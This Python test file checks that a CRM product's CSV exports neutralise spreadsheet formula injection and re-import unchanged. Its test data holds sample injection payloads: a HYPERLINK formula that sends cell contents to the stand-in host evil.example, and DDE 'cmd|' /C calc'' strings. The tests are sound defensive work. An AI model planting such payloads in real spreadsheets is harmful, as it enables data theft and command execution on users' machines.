"""Formula injection: every CSV the product writes neutralises text cells a spreadsheet would run
(=, +, -, @, tab, CR: OWASP), and the importer reads its own export back unchanged."""

from __future__ import annotations

import csv
import datetime as dt
import shutil
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import select, update

from crm_adapter.csv_import import import_folder
from crm_adapter.csv_import.export import export_folder
from crm_adapter.models import ClientRow
from kernel.spreadsheet import neutralise, restore

EXAMPLES = Path(__file__).parents[2] / "examples"
EVIL = {
    '=HYPERLINK("http://evil.example/?"&A1,"click")': '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
    "-2+3": "'-2+3",
    "@SUM(A1:A9)": "'@SUM(A1:A9)",
    "\tTabbed": "'\tTabbed",
    "\rReturn": "'\rReturn",
    "'quoted": "''quoted",
    "Plain Name Ltd": "Plain Name Ltd",
}


@given(st.text())
def test_restore_inverts_neutralise(value: str) -> None:
    safe = neutralise(value)
    assert isinstance(safe, str) and not safe.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert restore(safe) == value


def test_neutralise_by_hand() -> None:
    for value, expected in EVIL.items():
        assert neutralise(value) == expected
    assert neutralise(-5) == -5 and neutralise(None) is None


def _csv_column(path: Path, column: str) -> list[str]:
    with path.open(newline="", encoding="utf-8") as fh:
        return [row[column] for row in csv.DictReader(fh)]


def _poison(container) -> dict[int, str]:  # type: ignore[no-untyped-def]
    with container.engine.begin() as conn:
        ids = list(conn.execute(select(ClientRow.client_id).order_by(ClientRow.client_id)).scalars())
        names = dict(zip(ids, EVIL, strict=False))
        for cid, name in names.items():
            conn.execute(update(ClientRow).where(ClientRow.client_id == cid).values(name=name))
    return names


def test_export_neutralises_and_reimports_unchanged(container, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    folder = tmp_path / "book"
    shutil.copytree(EXAMPLES / "small-book", folder)
    import_folder(container.engine, folder)
    names = _poison(container)
    out = tmp_path / "export"
    export_folder(container.engine, out)
    written = _csv_column(out / "clients.csv", "name")
    assert set(EVIL.values()) <= set(written)
    assert not any(n.startswith(("=", "+", "-", "@", "\t", "\r")) for n in written)
    again = import_folder(container.engine, out)
    assert again.changed == 0, again
    with container.engine.connect() as conn:
        stored = dict(conn.execute(select(ClientRow.client_id, ClientRow.name)).all())
    assert {cid: stored[cid] for cid in names} == names


def test_review_run_out_and_audit_export_are_neutralised(cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    from creditdesk.cli.common import container

    assert cli("import", str(EXAMPLES / "small-book")).exit_code == 0
    _poison(container())
    out = tmp_path / "review.csv"
    result = cli("review", "run", "--out", str(out), "--no-save")
    assert result.exit_code == 0, result.output
    names = _csv_column(out, "name")
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"click")' in names
    assert not any(n.startswith(("=", "+", "-", "@", "\t", "\r")) for n in names)

    container().audit.record(
        actor=None, action="client.read", object_type="client", object_id="=cmd|' /C calc'!A0"
    )
    audit_csv = tmp_path / "audit.csv"
    today = dt.datetime.now(dt.UTC).date().isoformat()
    exported = cli(
        "audit", "export", "--from", "2000-01-01", "--to", today, "--out", str(audit_csv), "--as", "admin"
    )
    assert exported.exit_code == 0, exported.output
    assert "'=cmd|' /C calc'!A0" in _csv_column(audit_csv, "object_id")
